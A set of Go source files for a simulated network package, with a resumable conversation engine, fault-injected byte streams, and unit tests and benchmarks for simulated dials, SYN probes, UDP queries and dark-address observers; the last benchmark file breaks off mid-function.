// Stepper is a resumable conversation server: Step is called once per
// ConvEvent and must never block. After returning StepDone (or after EvEOF /
// EvBroken, which are always final) Step is not called again.
type Stepper interface {
	Step(c *ServerConv, ev ConvEvent) StepVerdict
}

// StepProvider is implemented by StreamHandlers that can also mint their
// per-session state machine. Network.Dial prefers this path: a fresh Stepper
// per conversation, executed inline with zero goroutines.
type StepProvider interface {
	StreamHandler
	NewStepper() Stepper
}

// ServerConv is the server's view of one engine conversation: the pending
// input bytes and the write/metadata surface of the underlying connection.
type ServerConv struct {
	sc  *ServiceConn
	in  []byte
	off int
}

// Input returns the bytes received from the client and not yet consumed.
func (c *ServerConv) Input() []byte { return c.in[c.off:] }

// Consume marks the first n bytes of Input as processed.
func (c *ServerConv) Consume(n int) {
	c.off += n
	if c.off >= len(c.in) {
		c.in = c.in[:0]
		c.off = 0
	}
}

func (c *ServerConv) avail() int { return len(c.in) - c.off }

// Write sends bytes to the client, subject to the conversation's injected
// stream fault — a tripped tarpit or reset surfaces here as io.ErrClosedPipe,
// exactly as it did on the blocking path.
func (c *ServerConv) Write(p []byte) (int, error) { return c.sc.Write(p) }

// Conn exposes the underlying connection for metadata (DialTime, RTT,
// remote address).
func (c *ServerConv) Conn() *ServiceConn { return c.sc }

// DialTime is the simulated time the conversation was dialed.
func (c *ServerConv) DialTime() time.Time { return c.sc.DialTime }

// RemoteIP reports the client's simulated address.
func (c *ServerConv) RemoteIP() (IPv4, bool) { return RemoteIPv4(c.sc) }

// stepperParty drives a native Stepper as the server side of an engine
// conversation. All fields are touched only by the conversation's driving
// goroutine.
type stepperParty struct {
	n      *Network
	s      Stepper
	sc     *ServerConv
	cv     *conv
	opened bool
	done   bool
}

func newStepperParty(n *Network, s Stepper, cv *conv, sconn *ServiceConn) *stepperParty {
	return &stepperParty{n: n, s: s, sc: &ServerConv{sc: sconn}, cv: cv}
}

// resume delivers every event implied by the conversation's current state:
// the one-time open, pending client bytes, then EOF or a torn pipe. Exactly
// one client action precedes each resume, so a single EvData pass sees all
// pending input.
func (p *stepperParty) resume() {
	if p.done {
		return
	}
	if !p.opened {
		p.opened = true
		if p.s.Step(p.sc, EvOpen) == StepDone {
			p.finish()
			return
		}
	}
	cv := p.cv
	cv.mu.Lock()
	p.sc.in = cv.c2s.take(p.sc.in)
	broken := cv.c2s.broken
	closed := cv.c2s.closed
	cv.mu.Unlock()
	if broken {
		p.s.Step(p.sc, EvBroken)
		p.finish()
		return
	}
	if p.sc.avail() > 0 {
		if p.s.Step(p.sc, EvData) == StepDone {
			p.finish()
			return
		}
	}
	if closed {
		p.s.Step(p.sc, EvEOF)
		p.finish()
	}
}

// finish mirrors the blocking path's post-Serve framework close.
func (p *stepperParty) finish() {
	p.done = true
	_ = p.sc.sc.Close()
	p.n.handlers.Done()
}

func (p *stepperParty) finished() bool { return p.done }

// ServeStepper adapts a Stepper to the blocking StreamHandler contract: it
// loops over conn reads and feeds the resulting events. Handlers implement
// Serve as a one-liner over their NewStepper so protocol tests driving plain
// pipe connections exercise the very same state machine the engine runs.
func ServeStepper(ctx context.Context, conn *ServiceConn, s Stepper) {
	sc := &ServerConv{sc: conn}
	if s.Step(sc, EvOpen) == StepDone {
		return
	}
	buf := make([]byte, 4096)
	for {
		n, err := conn.Read(buf)
		if n > 0 {
			sc.in = append(sc.in, buf[:n]...)
			if s.Step(sc, EvData) == StepDone {
				return
			}
		}
		if err != nil {
			if errors.Is(err, io.EOF) {
				s.Step(sc, EvEOF)
			} else {
				s.Step(sc, EvBroken)
			}
			return
		}
	}
}
