package netsim

import (
	"bufio"
	"context"
	"errors"
	"io"
	"os"
	"sync"
	"testing"
	"time"
)

// echoHandler answers one line with "echo: <line>".
type echoHandler struct{}

func (echoHandler) Serve(_ context.Context, c *ServiceConn) {
	r := bufio.NewReader(c)
	line, err := r.ReadString('\n')
	if err != nil {
		return
	}
	_, _ = io.WriteString(c, "echo: "+line)
}

// testHost serves echo on TCP port 7 and ping on UDP port 9.
type testHost struct{}

func (testHost) StreamService(port uint16) StreamHandler {
	if port == 7 {
		return echoHandler{}
	}
	return nil
}

func (testHost) DatagramService(port uint16) DatagramHandler {
	if port == 9 {
		return DatagramHandlerFunc(func(_ Endpoint, payload []byte) []byte {
			return append([]byte("pong:"), payload...)
		})
	}
	return nil
}

func testNetwork() *Network {
	n := NewNetwork(NewSimClock(ExperimentStart))
	n.AddProvider(MustParsePrefix("10.0.0.0/8"), HostProviderFunc(func(ip IPv4) Host {
		if ip == MustParseIPv4("10.0.0.1") {
			return testHost{}
		}
		return nil
	}))
	return n
}

func TestDialAndEcho(t *testing.T) {
	n := testNetwork()
	conn, err := n.Dial(context.Background(), MustParseIPv4("192.0.2.1"),
		Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}, ProbeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, "hello\n"); err != nil {
		t.Fatal(err)
	}
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	if line != "echo: hello\n" {
		t.Fatalf("got %q", line)
	}
}

func TestDialRefusedAndUnreachable(t *testing.T) {
	n := testNetwork()
	_, err := n.Dial(context.Background(), 1, Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 23}, ProbeOptions{})
	if !errors.Is(err, ErrConnRefused) {
		t.Fatalf("closed port: err = %v, want ErrConnRefused", err)
	}
	_, err = n.Dial(context.Background(), 1, Endpoint{IP: MustParseIPv4("10.9.9.9"), Port: 23}, ProbeOptions{})
	if !errors.Is(err, ErrHostUnreachable) {
		t.Fatalf("dark address: err = %v, want ErrHostUnreachable", err)
	}
	st := n.Stats()
	if st.Refused.Load() != 1 || st.Unreachable.Load() != 1 {
		t.Fatalf("stats refused=%d unreachable=%d", st.Refused.Load(), st.Unreachable.Load())
	}
}

func TestSynProbe(t *testing.T) {
	n := testNetwork()
	src := Endpoint{IP: 1, Port: 40000}
	if !n.SynProbe(src, Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}, ProbeOptions{}) {
		t.Fatal("SynProbe open port = false")
	}
	if n.SynProbe(src, Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 8}, ProbeOptions{}) {
		t.Fatal("SynProbe closed port = true")
	}
	if n.SynProbe(src, Endpoint{IP: MustParseIPv4("10.3.3.3"), Port: 7}, ProbeOptions{}) {
		t.Fatal("SynProbe dark address = true")
	}
}

func TestQuery(t *testing.T) {
	n := testNetwork()
	resp := n.Query(2, Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 9}, []byte("abc"), ProbeOptions{})
	if string(resp) != "pong:abc" {
		t.Fatalf("Query = %q", resp)
	}
	if resp := n.Query(2, Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 10}, []byte("abc"), ProbeOptions{}); resp != nil {
		t.Fatalf("closed UDP port answered: %q", resp)
	}
	if resp := n.Query(2, Endpoint{IP: MustParseIPv4("10.7.7.7"), Port: 9}, nil, ProbeOptions{}); resp != nil {
		t.Fatal("dark address answered UDP")
	}
	st := n.Stats()
	if st.Datagrams.Load() != 3 || st.Responses.Load() != 1 {
		t.Fatalf("stats datagrams=%d responses=%d", st.Datagrams.Load(), st.Responses.Load())
	}
}

func TestObserverSeesDarkTraffic(t *testing.T) {
	n := testNetwork()
	var mu sync.Mutex
	var events []ProbeEvent
	n.AddObserver(MustParsePrefix("44.0.0.0/8"), ObserverFunc(func(ev ProbeEvent) {
		mu.Lock()
		events = append(events, ev)
		mu.Unlock()
	}))

	// Traffic to the observed /8 is recorded even though it is dark.
	n.Query(5, Endpoint{IP: MustParseIPv4("44.1.2.3"), Port: 5683}, []byte("x"), ProbeOptions{TTL: 52, Masscan: true})
	n.SynProbe(Endpoint{IP: 5, Port: 1}, Endpoint{IP: MustParseIPv4("44.9.9.9"), Port: 23}, ProbeOptions{})
	// Traffic elsewhere is not.
	n.Query(5, Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 9}, []byte("x"), ProbeOptions{})

	mu.Lock()
	defer mu.Unlock()
	if len(events) != 2 {
		t.Fatalf("observer saw %d events, want 2", len(events))
	}
	if events[0].Transport != UDP || events[0].Size != 1 || events[0].TTL != 52 || !events[0].Masscan {
		t.Fatalf("UDP event wrong: %+v", events[0])
	}
	if events[1].Transport != TCP || events[1].Kind != ProbeSYN || events[1].Dst.Port != 23 {
		t.Fatalf("SYN event wrong: %+v", events[1])
	}
}

func TestMostSpecificProviderWins(t *testing.T) {
	n := NewNetwork(nil)
	wide := HostProviderFunc(func(IPv4) Host { return testHost{} })
	narrow := HostProviderFunc(func(IPv4) Host { return nil }) // dark carve-out
	n.AddProvider(MustParsePrefix("10.0.0.0/8"), wide)
	n.AddProvider(MustParsePrefix("10.1.0.0/16"), narrow)

	// Narrow provider returns nil host, so lookup falls back to the wide one:
	// registration order does not shadow existence, specificity does when a
	// host is actually present.
	if h := n.lookupHost(MustParseIPv4("10.1.0.5")); h == nil {
		t.Fatal("expected fall-through to wide provider when narrow returns nil")
	}

	// When the narrow provider does return a host it must win.
	type namedHost struct {
		testHost
		name string
	}
	n2 := NewNetwork(nil)
	n2.AddProvider(MustParsePrefix("10.0.0.0/8"), HostProviderFunc(func(IPv4) Host { return namedHost{name: "wide"} }))
	n2.AddProvider(MustParsePrefix("10.1.0.0/16"), HostProviderFunc(func(IPv4) Host { return namedHost{name: "narrow"} }))
	h := n2.lookupHost(MustParseIPv4("10.1.0.5"))
	if h.(namedHost).name != "narrow" {
		t.Fatalf("got %q, want narrow", h.(namedHost).name)
	}
	h = n2.lookupHost(MustParseIPv4("10.2.0.5"))
	if h.(namedHost).name != "wide" {
		t.Fatalf("got %q, want wide", h.(namedHost).name)
	}
}

func TestDialTimeUsesSimClock(t *testing.T) {
	clk := NewSimClock(ExperimentStart)
	n := NewNetwork(clk)
	n.AddProvider(MustParsePrefix("10.0.0.0/8"), HostProviderFunc(func(IPv4) Host { return testHost{} }))
	clk.Advance(48 * time.Hour)
	conn, err := n.Dial(context.Background(), 1, Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}, ProbeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	want := ExperimentStart.Add(48 * time.Hour)
	if !conn.DialTime.Equal(want) {
		t.Fatalf("DialTime = %v, want %v", conn.DialTime, want)
	}
}

func TestEphemeralPortStableAndInRange(t *testing.T) {
	src := MustParseIPv4("192.0.2.7")
	dst := Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 23}
	p1 := ephemeralPort(src, dst)
	p2 := ephemeralPort(src, dst)
	if p1 != p2 {
		t.Fatal("ephemeral port not stable for same flow")
	}
	if p1 < 32768 {
		t.Fatalf("ephemeral port %d below range", p1)
	}
}

func TestConnDeadline(t *testing.T) {
	c1, c2 := NewConnPair(Endpoint{IP: 1, Port: 1}, Endpoint{IP: 2, Port: 2})
	defer c1.Close()
	defer c2.Close()
	if err := c1.SetReadDeadline(time.Now().Add(20 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 1)
	_, err := c1.Read(buf)
	if !errors.Is(err, os.ErrDeadlineExceeded) {
		t.Fatalf("Read err = %v, want deadline exceeded", err)
	}
	// Clearing the deadline allows reads again.
	if err := c1.SetReadDeadline(time.Time{}); err != nil {
		t.Fatal(err)
	}
	go func() {
		_, _ = c2.Write([]byte("z"))
	}()
	if _, err := c1.Read(buf); err != nil {
		t.Fatalf("read after deadline clear: %v", err)
	}
}

func TestConnEOFAfterClose(t *testing.T) {
	c1, c2 := NewConnPair(Endpoint{IP: 1, Port: 1}, Endpoint{IP: 2, Port: 2})
	if _, err := c2.Write([]byte("data")); err != nil {
		t.Fatal(err)
	}
	c2.Close()
	got, err := io.ReadAll(c1)
	if err != nil || string(got) != "data" {
		t.Fatalf("ReadAll = %q, %v", got, err)
	}
	if _, err := c1.Write([]byte("x")); err == nil {
		t.Fatal("write to closed peer succeeded")
	}
}

func TestConnLargeTransfer(t *testing.T) {
	// Transfers larger than the internal buffer exercise flow control.
	c1, c2 := NewConnPair(Endpoint{IP: 1, Port: 1}, Endpoint{IP: 2, Port: 2})
	payload := make([]byte, 1<<20)
	for i := range payload {
		payload[i] = byte(i * 31)
	}
	go func() {
		defer c2.Close()
		_, _ = c2.Write(payload)
	}()
	got, err := io.ReadAll(c1)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(payload) {
		t.Fatalf("transferred %d bytes, want %d", len(got), len(payload))
	}
	for i := range got {
		if got[i] != payload[i] {
			t.Fatalf("corruption at byte %d", i)
		}
	}
}

func TestConnAddrs(t *testing.T) {
	c1, _ := NewConnPair(Endpoint{IP: MustParseIPv4("1.1.1.1"), Port: 5}, Endpoint{IP: MustParseIPv4("2.2.2.2"), Port: 6})
	if c1.LocalAddr().String() != "1.1.1.1:5" || c1.RemoteAddr().String() != "2.2.2.2:6" {
		t.Fatalf("addrs %v %v", c1.LocalAddr(), c1.RemoteAddr())
	}
	if c1.LocalAddr().Network() != "tcp" {
		t.Fatal("network name wrong")
	}
	ip, ok := RemoteIPv4(c1)
	if !ok || ip != MustParseIPv4("2.2.2.2") {
		t.Fatalf("RemoteIPv4 = %v, %v", ip, ok)
	}
}

func TestSimClock(t *testing.T) {
	c := NewSimClock(ExperimentStart)
	c.Advance(-time.Hour) // ignored
	if !c.Now().Equal(ExperimentStart) {
		t.Fatal("negative advance moved clock")
	}
	c.Advance(time.Hour)
	if !c.Now().Equal(ExperimentStart.Add(time.Hour)) {
		t.Fatal("advance failed")
	}
	if err := c.Set(ExperimentStart); err != ErrClockBackwards {
		t.Fatalf("Set into the past returned %v, want ErrClockBackwards", err)
	}
	if !c.Now().Equal(ExperimentStart.Add(time.Hour)) {
		t.Fatal("rejected Set still moved the clock")
	}
	if err := c.Set(c.Now()); err != nil {
		t.Fatalf("Set to the current instant returned %v", err)
	}
	if err := c.Set(ExperimentStart.Add(2 * time.Hour)); err != nil {
		t.Fatalf("Set forward returned %v", err)
	}
	if !c.Now().Equal(ExperimentStart.Add(2 * time.Hour)) {
		t.Fatal("Set forward failed")
	}
}

// TestSimClockBackwardsRegression replays the exact pattern that used to skew
// campaign timelines silently: a driver computing per-day offsets can produce
// an instant before the current simulated time, and the old Set would rewind
// the clock without a trace. The clock must refuse and stay where it is.
func TestSimClockBackwardsRegression(t *testing.T) {
	c := NewSimClock(ExperimentStart)
	// Day 3 with a skewed offset lands before day 3's start after the clock
	// already reached day 5.
	_ = c.Set(ExperimentStart.AddDate(0, 0, 5))
	before := c.Now()
	if err := c.Set(ExperimentStart.AddDate(0, 0, 3).Add(42 * time.Minute)); err == nil {
		t.Fatal("backwards Set succeeded")
	}
	if !c.Now().Equal(before) {
		t.Fatalf("clock moved from %v to %v on a rejected Set", before, c.Now())
	}
	// Forward progress still works after a rejection.
	if err := c.Set(before.Add(time.Minute)); err != nil {
		t.Fatalf("forward Set after rejection returned %v", err)
	}
}

func TestConcurrentDials(t *testing.T) {
	n := testNetwork()
	var wg sync.WaitGroup
	for i := 0; i < 50; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			conn, err := n.Dial(context.Background(), IPv4(i+1),
				Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}, ProbeOptions{})
			if err != nil {
				t.Errorf("dial %d: %v", i, err)
				return
			}
			defer conn.Close()
			if _, err := io.WriteString(conn, "x\n"); err != nil {
				t.Errorf("write %d: %v", i, err)
				return
			}
			line, err := bufio.NewReader(conn).ReadString('\n')
			if err != nil || line != "echo: x\n" {
				t.Errorf("read %d: %q, %v", i, line, err)
			}
		}(i)
	}
	wg.Wait()
	if got := n.Stats().DialsOK.Load(); got != 50 {
		t.Fatalf("DialsOK = %d", got)
	}
}

func BenchmarkSynProbe(b *testing.B) {
	n := testNetwork()
	src := Endpoint{IP: 1, Port: 40000}
	dst := Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		n.SynProbe(src, dst, ProbeOptions{})
	}
}

func BenchmarkDialEcho(b *testing.B) {
	n := testNetwork()
	dst := Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		conn, err := n.Dial(context.Background(), 1, dst, ProbeOptions{})
		if err != nil {
			b.Fatal(err)
		}
		_, _ = io.WriteString(conn, "x\n")
		_, _ = bufio.NewReader(conn).ReadString('\n')
		conn.Close()
	}
}
