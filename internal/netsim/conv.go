package netsim

// conv.go is the execution core of the discrete-event conversation engine.
//
// A conversation is a client↔server dialogue over the simulated fabric. Both
// parties are deterministic simulations, so nothing is gained by running them
// concurrently: the engine executes the whole dialogue synchronously on the
// dialing goroutine. The server side is a resumable party — either a native
// state machine (Stepper) or a blocking StreamHandler multiplexed onto a
// parked, reusable coroutine worker — that runs in bursts: after the dial and
// after every client write or close, the server party runs until it either
// needs more client input or finishes. Between bursts the client owns the
// conversation exclusively.
//
// The payoff is twofold. First, time: when the client reads with an empty
// buffer and the server is parked awaiting input, no data can ever arrive
// within that read, so a read deadline is reported exceeded immediately
// instead of being slept out on the wall clock — the waits that dominated
// BenchmarkCampaignReplay vanish. Second, churn: conversation state (buffers,
// mutex, party scratch) lives in slab-pooled conv objects that reset and
// recycle, and blocking handlers reuse parked coroutine workers, so a dial
// costs no goroutine spawn and no channel allocation.
//
// Byte-stream semantics replicate the retired goroutine-per-dial pipe pair
// exactly: reads drain buffered data before reporting EOF or deadlines,
// broken pipes beat buffered data, a close half-closes both directions, and
// injected stream faults (tarpit truncation, mid-stream reset) trip on the
// same server-write byte budgets with the same partial-write returns.

import (
	"io"
	"net"
	"os"
	"sync"
	"time"
)

// convBufRetain caps the buffer capacity a pooled conversation keeps across
// recycles; a flood conversation's oversized slab is dropped for the GC
// rather than pinned forever.
const convBufRetain = 64 << 10

// convBuf is one direction of an engine conversation: an unbounded byte
// queue guarded by the owning conversation's mutex. Unlike the retired
// pipeBuffer it never blocks a writer — the reader always runs to quiescence
// before the writer resumes, so backpressure has no one to wake.
type convBuf struct {
	data   []byte
	off    int
	closed bool // write side closed: reads drain then report io.EOF
	broken bool // torn down: reads and writes fail immediately
}

func (b *convBuf) size() int { return len(b.data) - b.off }

func (b *convBuf) readInto(p []byte) int {
	n := copy(p, b.data[b.off:])
	b.off += n
	if b.off == len(b.data) {
		b.data = b.data[:0]
		b.off = 0
	}
	return n
}

// take appends all buffered bytes to dst and empties the queue.
func (b *convBuf) take(dst []byte) []byte {
	dst = append(dst, b.data[b.off:]...)
	b.data = b.data[:0]
	b.off = 0
	return dst
}

func (b *convBuf) write(p []byte) {
	b.data = append(b.data, p...)
}

func (b *convBuf) reset() {
	if cap(b.data) > convBufRetain {
		b.data = nil
	} else {
		b.data = b.data[:0]
	}
	b.off = 0
	b.closed = false
	b.broken = false
}

// serverParty is the resumable server side of a conversation.
type serverParty interface {
	// resume runs the server until it parks awaiting client input or
	// finishes. It must be called only from the conversation's driving
	// (client) goroutine, never with the conversation mutex held.
	resume()
	// finished reports whether the handler has returned and the framework
	// close has run.
	finished() bool
}

// conv is one pooled conversation: the two payload queues, the injected
// stream fault, and the server party. The mutex guards the queues and
// endpoint deadlines; it is held only inside individual I/O operations, so
// cross-conversation writers (an MQTT broker fanning a publish out to another
// session) never deadlock against a running party.
type conv struct {
	mu  sync.Mutex
	c2s convBuf // client → server payload
	s2c convBuf // server → client payload

	// gen is bumped when the conversation is released for reuse; endpoint
	// handles carry the generation they were dialed with and go inert on a
	// mismatch, so client code holding a closed connection can never touch a
	// recycled conversation.
	gen uint64

	n     *Network
	party serverParty
	owner *convShard // arena that owns this object; nil = global pool

	// clientSC receives the fault flags when the stream fault trips.
	clientSC *ServiceConn

	// fault is the stream pathology applied to server writes, mirroring the
	// retired streamFault byte-budget semantics.
	fault struct {
		active    bool
		reset     bool
		tripped   bool
		remaining int
	}
}

// runServer resumes the server party after a client action. One resume
// suffices: the party runs until it parks on an empty input queue (which only
// the next client action can refill) or finishes.
func (cv *conv) runServer() {
	if p := cv.party; p != nil && !p.finished() {
		p.resume()
	}
}

// maybeRelease recycles the conversation once both sides are done with it:
// the client has closed and the server party has finished. A party parked
// forever by a handler that ignores EOF keeps the conversation alive (and
// Quiesce waiting) — the same leak the goroutine path had.
func (cv *conv) maybeRelease() {
	if cv.party == nil || !cv.party.finished() {
		return
	}
	cv.mu.Lock()
	cv.gen++
	cv.c2s.reset()
	cv.s2c.reset()
	cv.party = nil
	cv.clientSC = nil
	cv.fault.active = false
	cv.fault.reset = false
	cv.fault.tripped = false
	cv.fault.remaining = 0
	owner := cv.owner
	cv.mu.Unlock()
	if owner != nil {
		owner.putConv(cv)
	} else {
		globalConvPool.Put(cv)
	}
}

// globalConvPool recycles conversations dialed outside an engine shard (the
// scan leg's worker goroutines, tests).
var globalConvPool = sync.Pool{New: func() any { return &conv{} }}

// convPair bundles the four per-dial objects — both endpoint handles and
// both ServiceConn wrappers — into one allocation. They share a lifetime
// (per dial, never pooled), so one slab beats four mallocs on the hot path.
type convPair struct {
	clientCC convConn
	serverCC convConn
	clientSC ServiceConn
	serverSC ServiceConn
}

// convConn is one endpoint handle of an engine conversation. Handles are
// allocated per dial — never pooled — so the fault flags and deadlines they
// carry stay valid after the conversation object itself is recycled.
type convConn struct {
	cv     *conv
	gen    uint64
	client bool
	local  Endpoint
	remote Endpoint

	// Deadlines and the closed flag are guarded by cv.mu: MQTT fanout writes
	// arrive from other conversations' goroutines.
	readDL  time.Time
	writeDL time.Time
	closed  bool

	// sc is the ServiceConn wrapping this endpoint (set at dial). The server
	// endpoint's writes raise fault flags on the peer client's sc.
	sc *ServiceConn
}

// readBuf is the queue this endpoint reads from.
func (c *convConn) readBuf() *convBuf {
	if c.client {
		return &c.cv.s2c
	}
	return &c.cv.c2s
}

// writeBuf is the queue this endpoint writes to.
func (c *convConn) writeBuf() *convBuf {
	if c.client {
		return &c.cv.c2s
	}
	return &c.cv.s2c
}

// Read mirrors the retired pipeBuffer order exactly: broken pipe first, then
// buffered data, then EOF, then the deadline. The difference is the final
// arm: where the pipe would block, the engine knows the server is parked
// awaiting input, so no data can arrive within this read — a set deadline is
// reported exceeded immediately (the give-up the deadline models), and a
// blocking read with no deadline is a guaranteed deadlock, reported loudly.
func (c *convConn) Read(p []byte) (int, error) {
	cv := c.cv
	cv.mu.Lock()
	for {
		if c.gen != cv.gen {
			cv.mu.Unlock()
			return 0, io.EOF
		}
		buf := c.readBuf()
		if buf.broken {
			cv.mu.Unlock()
			return 0, io.ErrClosedPipe
		}
		if buf.size() > 0 {
			n := buf.readInto(p)
			cv.mu.Unlock()
			return n, nil
		}
		if buf.closed {
			cv.mu.Unlock()
			return 0, io.EOF
		}
		if c.client {
			if !c.readDL.IsZero() {
				// The server is parked awaiting input, so no data can arrive
				// within this read: whether the deadline has already passed
				// or would be slept out, the outcome is the same — report it
				// exceeded now, without consulting the wall clock.
				cv.mu.Unlock()
				return 0, os.ErrDeadlineExceeded
			}
			cv.mu.Unlock()
			panic("netsim: conversation client read would block forever " +
				"(no buffered data, server parked awaiting input, no read deadline set)")
		}
		if !c.readDL.IsZero() && !time.Now().Before(c.readDL) {
			cv.mu.Unlock()
			return 0, os.ErrDeadlineExceeded
		}
		// Server side (coroutine party): park until the client acts.
		park := cv.party.(*coroParty).w
		cv.mu.Unlock()
		park.parkRead()
		cv.mu.Lock()
	}
}

func (c *convConn) Write(p []byte) (int, error) {
	cv := c.cv
	cv.mu.Lock()
	if c.gen != cv.gen {
		cv.mu.Unlock()
		return 0, io.ErrClosedPipe
	}
	if !c.client && cv.fault.active {
		return c.faultWriteLocked(p) // unlocks
	}
	n, err := c.writeLocked(p)
	cv.mu.Unlock()
	if err == nil && c.client {
		cv.runServer()
	}
	return n, err
}

// writeLocked appends to the outgoing queue with the retired pipe's error
// order: torn-down or half-closed pipe first, then the write deadline.
func (c *convConn) writeLocked(p []byte) (int, error) {
	buf := c.writeBuf()
	if buf.broken || buf.closed {
		return 0, io.ErrClosedPipe
	}
	if !c.writeDL.IsZero() && !time.Now().Before(c.writeDL) {
		return 0, os.ErrDeadlineExceeded
	}
	buf.write(p)
	return len(p), nil
}

// faultWriteLocked is the engine translation of streamFault.write: pass
// server-written bytes through until the budget is spent, then trip the
// pathology. Called with cv.mu held; unlocks before returning.
func (c *convConn) faultWriteLocked(p []byte) (int, error) {
	cv := c.cv
	if cv.fault.tripped {
		cv.mu.Unlock()
		return 0, io.ErrClosedPipe
	}
	allow := len(p)
	trip := false
	if allow >= cv.fault.remaining {
		allow = cv.fault.remaining
		trip = true
		cv.fault.tripped = true
	}
	cv.fault.remaining -= allow
	var n int
	var err error
	if allow > 0 {
		n, err = c.writeLocked(p[:allow])
	}
	if !trip {
		cv.mu.Unlock()
		return n, err
	}
	sc := cv.clientSC
	if cv.fault.reset {
		// RST: both directions torn down, in-flight data discarded.
		cv.s2c.broken, cv.s2c.data, cv.s2c.off = true, nil, 0
		cv.c2s.broken, cv.c2s.data, cv.c2s.off = true, nil, 0
		cv.mu.Unlock()
		if sc != nil {
			sc.faultReset.Store(true)
		}
	} else {
		// Tarpit cut: the prefix already written stays readable, then EOF.
		cv.s2c.closed = true
		cv.mu.Unlock()
		if sc != nil {
			sc.faultTruncated.Store(true)
		}
	}
	return n, io.ErrClosedPipe
}

// Close half-closes both directions, exactly as the retired conn did: the
// peer's pending data stays readable (FIN semantics) and its writes start
// failing. Closing the client side additionally runs the server party to
// completion — the conversation is fully processed and logged by the time
// Close returns — and recycles the conversation object.
func (c *convConn) Close() error {
	cv := c.cv
	cv.mu.Lock()
	if c.gen != cv.gen || c.closed {
		cv.mu.Unlock()
		return nil
	}
	c.closed = true
	c.writeBuf().closed = true
	c.readBuf().closed = true
	cv.mu.Unlock()
	if c.client {
		cv.runServer()
		cv.maybeRelease()
	}
	return nil
}

// abort tears the conversation down in both directions, discarding buffers
// (RST semantics), then closes.
func (c *convConn) abort() {
	cv := c.cv
	cv.mu.Lock()
	if c.gen == cv.gen {
		cv.s2c.broken, cv.s2c.data, cv.s2c.off = true, nil, 0
		cv.c2s.broken, cv.c2s.data, cv.c2s.off = true, nil, 0
	}
	cv.mu.Unlock()
	_ = c.Close()
}

func (c *convConn) LocalAddr() net.Addr  { return simAddr{transport: TCP, ep: c.local} }
func (c *convConn) RemoteAddr() net.Addr { return simAddr{transport: TCP, ep: c.remote} }

func (c *convConn) SetDeadline(t time.Time) error {
	c.cv.mu.Lock()
	c.readDL, c.writeDL = t, t
	c.cv.mu.Unlock()
	return nil
}

func (c *convConn) SetReadDeadline(t time.Time) error {
	c.cv.mu.Lock()
	c.readDL = t
	c.cv.mu.Unlock()
	return nil
}

func (c *convConn) SetWriteDeadline(t time.Time) error {
	c.cv.mu.Lock()
	c.writeDL = t
	c.cv.mu.Unlock()
	return nil
}
