package netsim

// engine_bench_test.go measures the conversation engine's per-dialogue cost
// in isolation: one banner + ping/echo exchange per conversation, submitted
// through the sharded run queues. The stepper variant runs the server as a
// native state machine (zero per-dial goroutines); the coro variant runs the
// same dialogue as a blocking handler multiplexed onto pooled coroutine
// workers, which is the compatibility path for unconverted handlers.

import (
	"context"
	"testing"
	"time"
)

// echoStepper answers the opening banner and echoes every client batch.
type echoStepper struct{}

func (echoStepper) Step(c *ServerConv, ev ConvEvent) StepVerdict {
	switch ev {
	case EvOpen:
		_, _ = c.Write([]byte("hello\n"))
		return StepMore
	case EvData:
		in := c.Input()
		_, _ = c.Write(in)
		c.Consume(len(in))
		return StepMore
	default:
		return StepDone
	}
}

// echoStepHandler is the StepProvider form: Dial runs the stepper natively.
type echoStepHandler struct{}

func (echoStepHandler) Serve(ctx context.Context, conn *ServiceConn) {
	ServeStepper(ctx, conn, echoStepper{})
}
func (echoStepHandler) NewStepper() Stepper { return echoStepper{} }

// echoBlockingHandler is the same dialogue as a plain blocking handler,
// forcing the coroutine-worker compatibility path.
type echoBlockingHandler struct{}

func (echoBlockingHandler) Serve(_ context.Context, c *ServiceConn) {
	if _, err := c.Write([]byte("hello\n")); err != nil {
		return
	}
	buf := make([]byte, 256)
	for {
		_ = c.SetReadDeadline(time.Now().Add(time.Second))
		n, err := c.Read(buf)
		if n > 0 {
			if _, werr := c.Write(buf[:n]); werr != nil {
				return
			}
		}
		if err != nil {
			return
		}
	}
}

func benchConversationEngine(b *testing.B, handler StreamHandler, shards int) {
	n := singleHostNetwork(handler, nil)
	dst := Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}
	e := NewConvEngine(shards)
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		src := IPv4(0xC0000200 + uint32(i%251))
		e.Submit(ctx, src, dst.IP, func(jctx context.Context) {
			conn, err := n.Dial(jctx, src, dst, ProbeOptions{})
			if err != nil {
				return
			}
			_ = conn.SetDeadline(time.Now().Add(time.Second))
			scratch := GetScratch()
			buf := *scratch
			_, _ = conn.Read(buf) // banner
			_, _ = conn.Write([]byte("ping\n"))
			_, _ = conn.Read(buf) // echo
			PutScratch(scratch)
			_ = conn.Close()
		})
	}
	e.Close()
	b.StopTimer()
	n.Quiesce()
}

// BenchmarkConversationEngine is the engine's per-conversation cost floor:
// dial, banner, one request/response round trip, close.
func BenchmarkConversationEngine(b *testing.B) {
	b.Run("stepper/shards=1", func(b *testing.B) {
		benchConversationEngine(b, echoStepHandler{}, 1)
	})
	b.Run("stepper/shards=8", func(b *testing.B) {
		benchConversationEngine(b, echoStepHandler{}, 8)
	})
	b.Run("coro/shards=1", func(b *testing.B) {
		benchConversationEngine(b, echoBlockingHandler{}, 1)
	})
